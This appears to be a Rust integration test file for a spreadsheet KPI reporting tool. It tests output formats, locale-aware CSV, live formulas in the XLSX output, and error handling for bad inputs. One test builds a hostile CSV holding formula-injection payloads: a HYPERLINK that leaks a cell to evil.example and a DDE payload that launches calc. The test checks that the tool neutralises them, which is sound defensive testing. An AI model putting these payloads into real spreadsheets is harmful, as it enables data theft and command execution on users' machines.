//! `sheetkpi report` as users run it: formats, atomic output, and every bad input
//! giving its message, exit code 2 and no output file.

mod common;

use calamine::{Data, Reader, Xlsx};
use common::{files_in, root, sheetkpi, stderr, stdout};

#[test]
fn table_csv_and_json() {
    let o = sheetkpi(&["report", "samples/campaigns.xlsx"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = stdout(&o);
    for needle in ["table \"Campaigns\"", "Spend (USD)", "→ spend", "By Channel", "Google Ads", "Total"] {
        assert!(text.contains(needle), "{needle} not in:\n{text}");
    }
    let o = sheetkpi(&["report", "tests/fixtures/en.csv", "--format", "csv"]);
    let csv = stdout(&o);
    let lines: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
    // The byte-order mark for Excel, then the file's own headers (not the role names).
    assert_eq!(lines[0][..8], ["\u{feff}level", "row", "group", "Channel", "Spend", "Revenue", "Impressions", "Clicks"]);
    let col = |name: &str| lines[0].iter().position(|h| *h == name).unwrap();
    // Search row 4: spend 1000, revenue 4000: ROAS 4, ROI 3; CTR 50 / 1000.
    assert_eq!(lines[1][..8], ["row", "4", "Search", "Search", "1000", "4000", "1000", "50"]);
    assert_eq!((lines[1][col("ROAS")], lines[1][col("ROI")], lines[1][col("CTR")]), ("4", "3", "0.05"));
    // Groups in order of appearance, then the total: 4800 / 1350.
    let levels: Vec<&str> = lines[1..].iter().map(|l| l[0]).collect();
    assert_eq!(levels, ["row", "row", "row", "group", "group", "total"]);
    assert_eq!(lines[6][col("ROAS")], "3.5555555555555554");
    // As Excel in Norway reads a CSV: `;` between fields, decimal commas, the same digits.
    let o = sheetkpi(&["report", "tests/fixtures/en.csv", "--format", "csv", "--locale", "nb"]);
    let nb = stdout(&o);
    let nb: Vec<Vec<&str>> = nb.lines().map(|l| l.split(';').collect()).collect();
    assert_eq!(nb[0], lines[0]);
    assert_eq!((nb[1][col("CTR")], nb[6][col("ROAS")]), ("0,05", "3,5555555555555554"));
    let o = sheetkpi(&["report", "tests/fixtures/en.csv", "--format", "csv", "--locale", "nb", "--no-bom", "--delimiter", "tab"]);
    assert!(stdout(&o).starts_with("level\trow\tgroup\t"), "{}", stdout(&o));
    let o = sheetkpi(&["report", "tests/fixtures/en.csv", "--format", "csv", "--locale", "fr"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("--locale: locale \"fr\" is not one of en, nb, zh-Hans, zh-Hant"), "{}", stderr(&o));
    let o = sheetkpi(&["report", "tests/fixtures/en.csv", "--format", "json"]);
    let j: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(j["source"]["rows"], 3);
    assert_eq!(j["groups"][0]["group"], "Search");
    assert_eq!(j["mapping"][1]["role"], "spend");
}

#[test]
fn xlsx_report_has_live_formulas_and_cached_values() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("report.xlsx");
    let o = sheetkpi(&["report", "tests/fixtures/en.csv", "--out", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let mut wb: Xlsx<_> = calamine::open_workbook(&out).unwrap();
    let data = wb.worksheet_range("Data").unwrap();
    let formulas = wb.worksheet_formula("Data").unwrap();
    let head: Vec<String> = (0..data.width()).map(|c| data.get((0, c)).unwrap().to_string()).collect();
    assert_eq!(head[..6], ["Row", "Channel", "Spend", "Revenue", "Impressions", "Clicks"]);
    let col = |name: &str| head.iter().position(|h| h == name).unwrap() as u32;
    // ROAS of sheet row 2 is revenue D2 over spend C2, cached as 4000 / 1000.
    let f = |r: u32, c: u32| formulas.get_value((r, c)).cloned().unwrap_or_default();
    // The engine's checks first (tests/node/report-xlsx-recalc.test.mjs recalculates them
    // in LibreOffice), then the KPI itself.
    assert!(f(1, col("ROAS")).starts_with("IF(ISERROR(D2),D2,IF(ISERROR(C2),C2,IF(D2=\"\",NA(),"), "{}", f(1, col("ROAS")));
    assert!(f(1, col("ROAS")).ends_with(",#NUM!,D2/C2)))))))"), "{}", f(1, col("ROAS")));
    assert!(f(1, col("ROI")).ends_with(",(D2-C2)/C2)))))))"), "{}", f(1, col("ROI")));
    assert!(f(1, col("CTR")).ends_with("IF(F2>E2,#NUM!,F2/E2))))))))"), "{}", f(1, col("CTR")));
    assert_eq!(data.get((1, col("ROAS") as usize)), Some(&Data::Float(4.0)));
    let summary = wb.worksheet_range("Summary").unwrap();
    let sf = wb.worksheet_formula("Summary").unwrap();
    assert_eq!(summary.get((1, 0)), Some(&Data::String("Search".into())));
    let sum = sf.get_value((1, 2)).cloned().unwrap_or_default();
    let members = "--EXACT(Data!$B$2:$B$4,$A2)";
    let values = "Data!$C$2:$C$4";
    assert_eq!(sum, format!("IF(SUMPRODUCT({members},ISNUMBER({values})+ISERROR({values}))=0,\"\",SUMPRODUCT({members},{values}))"));
    assert_eq!(summary.get((1, 2)), Some(&Data::Float(1100.0)));
    // Total row: SUM over the column, ROAS = 4800 / 1350.
    let values = "Data!$D$2:$D$4";
    assert_eq!(
        sf.get_value((3, 3)).cloned().unwrap_or_default(),
        format!("IF(COUNT({values})+SUMPRODUCT(--ISERROR({values}))=0,\"\",SUM({values}))")
    );
    let roas = 2 + 4 + (col("ROAS") as usize - 6);
    assert_eq!(summary.get((3, roas)), Some(&Data::Float(3.5555555555555554)));
    assert_eq!(files_in(dir.path()), vec!["report.xlsx"]);
}

#[test]
fn output_format_follows_the_extension_and_never_overwrites_the_input() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.csv");
    std::fs::copy(root().join("tests/fixtures/en.csv"), &input).unwrap();
    let before = std::fs::read(&input).unwrap();
    let out = dir.path().join("r.json");
    let o = sheetkpi(&["report", input.to_str().unwrap(), "-o", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(serde_json::from_slice::<serde_json::Value>(&std::fs::read(&out).unwrap()).is_ok());
    let o = sheetkpi(&["report", input.to_str().unwrap(), "--out", input.to_str().unwrap(), "--format", "csv"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("refusing to write over the input"), "{}", stderr(&o));
    assert_eq!(std::fs::read(&input).unwrap(), before);
    assert_eq!(files_in(dir.path()), vec!["in.csv", "r.json"]);
    let o = sheetkpi(&["report", "tests/fixtures/en.csv", "--format", "xlsx"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("needs --out"));
}

#[test]
fn bad_inputs_exit_2_with_their_message_and_write_nothing() {
    let cases: &[(&[&str], &str)] = &[
        (&["tests/fixtures/empty.csv"], "the file is empty"),
        (&["tests/fixtures/binary.xlsx"], "not a workbook"),
        (&["tests/fixtures/truncated.xlsx"], "truncated or corrupt"),
        (&["tests/fixtures/encrypted.xlsx"], "password-protected"),
        (&["tests/fixtures/huge_claim.xlsx"], "too large to import: it claims 1048576 rows × 16384 columns"),
        (&["tests/fixtures/huge_claim.xlsx"], "raise the limit with --max-cells N"),
        (&["tests/fixtures/no_header.xlsx"], "sheet \"Misc\" has: \"Foo\", \"Bar\""),
        (&["tests/fixtures/no_header.xlsx"], "map a column yourself with --map role=header"),
        (&["samples/campaigns.xlsx", "--sheet", "Nope"], "no sheet named \"Nope\"; the workbook has: \"Campaigns\""),
        (&["samples/campaigns.xlsx", "--map", "spend=Kostnad"], "no column is headed \"Kostnad\""),
        (&["samples/campaigns.xlsx", "--map", "wages=Spend"], "\"wages\" is not a role"),
        (&["samples/campaigns.xlsx", "--group-by", "Region"], "no column is headed \"Region\""),
        (&["tests/fixtures/does-not-exist.xlsx"], "cannot read"),
        (&["tests/fixtures"], "is a directory"),
    ];
    let dir = tempfile::tempdir().unwrap();
    for (args, message) in cases {
        for fmt in ["csv", "xlsx"] {
            let out = dir.path().join(format!("out.{fmt}"));
            let mut all = vec!["report"];
            all.extend_from_slice(args);
            all.extend(["--out", out.to_str().unwrap()]);
            let o = sheetkpi(&all);
            assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
            assert!(stderr(&o).contains(message), "{args:?}: expected {message:?} in {}", stderr(&o));
            assert!(o.stdout.is_empty(), "{args:?}");
            assert!(files_in(dir.path()).is_empty(), "{args:?} left {:?}", files_in(dir.path()));
        }
    }
}

#[test]
fn map_overrides_and_shows_the_mapping() {
    let o = sheetkpi(&["report", "tests/fixtures/no_header.xlsx", "--map", "revenue=Foo", "--map", "spend=Bar"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = stdout(&o);
    assert!(text.contains("Foo") && text.contains("→ revenue (--map)"), "{text}");
    assert!(text.contains("0.50x"), "ROAS 1 / 2:\n{text}");
}

#[test]
fn report_points_to_attribute_for_journey_data() {
    for (file, what) in [
        ("tests/fixtures/journeys/paths_en.csv", "the file holds journey data (channel paths)"),
        ("tests/fixtures/journeys/paths_zh_hant.xlsx", "sheet \"路徑\" holds journey data (channel paths)"),
        ("tests/fixtures/journeys/touches_en.csv", "the file holds journey data (one row per touch)"),
    ] {
        let o = sheetkpi(&["report", root().join(file).to_str().unwrap(), "--format", "json"]);
        assert!(stderr(&o).contains(what), "{file}: {}", stderr(&o));
        assert!(stderr(&o).contains("sheetkpi attribute"), "{file}");
    }
    // A campaign workbook without journeys gets no such line.
    let o = sheetkpi(&["report", root().join("samples/campaigns.xlsx").to_str().unwrap(), "--format", "json"]);
    assert!(!stderr(&o).contains("journey"), "{}", stderr(&o));
}

#[test]
fn csv_output_neutralises_formula_like_text_but_not_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("hostile.csv");
    std::fs::write(
        &input,
        "Channel,Campaign,Spend,Revenue\n\
         \"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"x\"\")\",+cmd|' /C calc'!A0,100,-5\n\
         @SUM(A1),-2+3,50,80\n",
    )
    .unwrap();
    let o = sheetkpi(&["report", input.to_str().unwrap(), "--format", "csv"]);
    let csv = stdout(&o);
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    let cells: Vec<String> = r.records().flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
    for bad in ["=HYPERLINK", "+cmd", "@SUM", "-2+3"] {
        assert!(cells.iter().any(|c| c.starts_with(&format!("'{bad}"))), "{bad} not neutralised:\n{csv}");
        assert!(!cells.iter().any(|c| c.starts_with(bad)), "{bad} left live:\n{csv}");
    }
    // A negative number stays a number.
    assert!(cells.iter().any(|c| c == "-5"), "{csv}");
    // The same rule in `attribute`'s CSV.
    let paths = dir.path().join("paths.csv");
    std::fs::write(&paths, "path,conversions\n=evil > Email,2\nEmail,1\n").unwrap();
    let o = sheetkpi(&["attribute", paths.to_str().unwrap(), "--model", "linear", "--format", "csv"]);
    let out = stdout(&o);
    assert!(out.lines().any(|l| l.starts_with("'=evil")), "{out}");
}

#[test]
fn decimal_names_the_separator_the_detection_cannot_know() {
    let dir = tempfile::tempdir().unwrap();
    let spend = |args: &[&str], text: &str| {
        let input = dir.path().join("d.csv");
        std::fs::write(&input, text).unwrap();
        let mut a = vec!["report", input.to_str().unwrap(), "--format", "json"];
        a.extend_from_slice(args);
        let o = sheetkpi(&a);
        assert!(o.status.success(), "{}", stderr(&o));
        let j: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
        let at = j["measures"].as_array().unwrap().iter().position(|m| m == "spend").unwrap();
        (j["rows"][0]["values"][at].clone(), j["rows"][1]["values"][at].clone())
    };
    // A `;` file whose numbers all read both ways: the file's rule (decimal comma) groups
    // thousands with the point; --decimal point says otherwise.
    let semi = "Channel;Spend;Revenue\nSearch;100.250;400\nSocial;2.500;300\n";
    assert_eq!(spend(&[], semi), (serde_json::json!(100250.0), serde_json::json!(2500.0)));
    assert_eq!(spend(&["--decimal", "point"], semi), (serde_json::json!(100.25), serde_json::json!(2.5)));
    // A comma file with quoted decimal commas: read as thousands unless told.
    let comma = "Channel,Spend,Revenue\nSearch,\"100,250\",400\nSocial,\"2,500\",300\n";
    assert_eq!(spend(&["--decimal", "comma"], comma), (serde_json::json!(100.25), serde_json::json!(2.5)));
    // Named, the separator holds for every column: `1.5` under a decimal comma is not a number.
    let o = sheetkpi(&["report", "tests/fixtures/en.csv", "--decimal", "sideways"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("auto, point or comma"), "{}", stderr(&o));
}

#[test]
fn a_read_past_the_time_budget_stops_with_a_message_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("long.csv");
    let mut text = String::from("Channel,Spend,Revenue\n");
    for i in 0..40_000 {
        text.push_str(&format!("Search,{i},{}\n", 2 * i));
    }
    std::fs::write(&input, text).unwrap();
    let out = dir.path().join("r.csv");
    let o = sheetkpi(&["report", input.to_str().unwrap(), "--max-seconds", "0", "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("took longer than 0 s") && stderr(&o).contains("--max-seconds N"), "{}", stderr(&o));
    assert_eq!(files_in(dir.path()), vec!["long.csv".to_string()], "nothing written");
    // The default budget reads it.
    assert!(sheetkpi(&["report", input.to_str().unwrap(), "--format", "csv"]).status.success());
}

#[test]
fn several_files_are_read_together_with_a_source_column() {
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a.csv");
    let b = dir.path().join("b.csv");
    std::fs::write(&a, "Channel,Spend,Revenue\nSearch,100,400\nSocial,50,n/a\n").unwrap();
    // Norwegian headers for the same roles.
    std::fs::write(&b, "Kanal;Kostnad;Inntekt\nSearch;10;40,5\nVideo;30;60\n").unwrap();
    let o = sheetkpi(&["report", a.to_str().unwrap(), b.to_str().unwrap(), "--format", "json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let j: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(j["labels"], serde_json::json!(["Source", "Channel"]));
    let sources: Vec<String> = j["rows"].as_array().unwrap().iter().map(|r| r["labels"][0].as_str().unwrap().to_string()).collect();
    let (an, bn) = (a.display().to_string(), b.display().to_string());
    assert_eq!(sources, [an.clone(), an.clone(), bn.clone(), bn.clone()]);
    // Search over both files: 110 spent, 440.5 earned; the text revenue left out of the sums.
    assert_eq!(j["groups"][0]["values"], serde_json::json!([110.0, 440.5]));
    assert_eq!(j["total"]["values"], serde_json::json!([190.0, 500.5]));
    assert_eq!(j["warnings"][0]["cells"], serde_json::json!([format!("[{an}]C3")]));
    assert!(stderr(&o).contains(&format!("[{an}]C3 \"n/a\"")), "{}", stderr(&o));
    // A file whose columns play other roles is refused, by name; nothing is written.
    let out = dir.path().join("r.csv");
    let o = sheetkpi(&["report", a.to_str().unwrap(), "tests/fixtures/en.csv", "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("tests/fixtures/en.csv has other columns than"), "{}", stderr(&o));
    assert!(!out.exists());
    // Nor over any of the inputs.
    let o = sheetkpi(&["report", a.to_str().unwrap(), b.to_str().unwrap(), "--format", "csv", "--out", b.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("refusing to write over the input file"), "{}", stderr(&o));
}

#[test]
fn by_period_each_kpi_has_its_change_on_the_period_before() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("months.csv");
    std::fs::write(&f, "Date,Channel,Spend,Revenue\n2024-01-05,Search,100,400\n2024-01-20,Social,100,200\n2024-02-03,Search,100,450\n2024-04-01,Search,80,320\n").unwrap();
    let o = sheetkpi(&["report", f.to_str().unwrap(), "--period", "month", "--format", "csv", "--no-bom"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let csv = stdout(&o);
    let lines: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
    let col = |name: &str| lines[0].iter().position(|h| *h == name).unwrap_or_else(|| panic!("{name} in {:?}", lines[0]));
    let groups: Vec<&Vec<&str>> = lines.iter().filter(|l| l[0] == "group").collect();
    let keys: Vec<&str> = groups.iter().map(|l| l[2]).collect();
    assert_eq!(keys, ["2024-01", "2024-02", "2024-04"], "calendar order");
    // January's ROAS is 600 / 200 = 3, February's 4.5: up by half. No change for the first
    // month; April follows no March: #N/A.
    let (roas, mom) = (col("ROAS"), col("ROAS MoM"));
    assert_eq!((groups[0][roas], groups[0][mom]), ("3", ""));
    assert_eq!((groups[1][roas], groups[1][mom]), ("4.5", "0.5"));
    assert_eq!(groups[2][mom], "#N/A");
    let table = stdout(&sheetkpi(&["report", f.to_str().unwrap(), "--period", "month"]));
    assert!(table.contains("Change on the month before (MoM):"), "{table}");
    // Without a date column: refused, naming the columns.
    let o = sheetkpi(&["report", "tests/fixtures/en.csv", "--period", "month"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("a report by month needs a date column, and none of the columns is one: \"Channel\""), "{}", stderr(&o));
    let o = sheetkpi(&["report", "tests/fixtures/en.csv", "--period", "fortnight"]);
    assert_eq!(o.status.code(), Some(2));
}
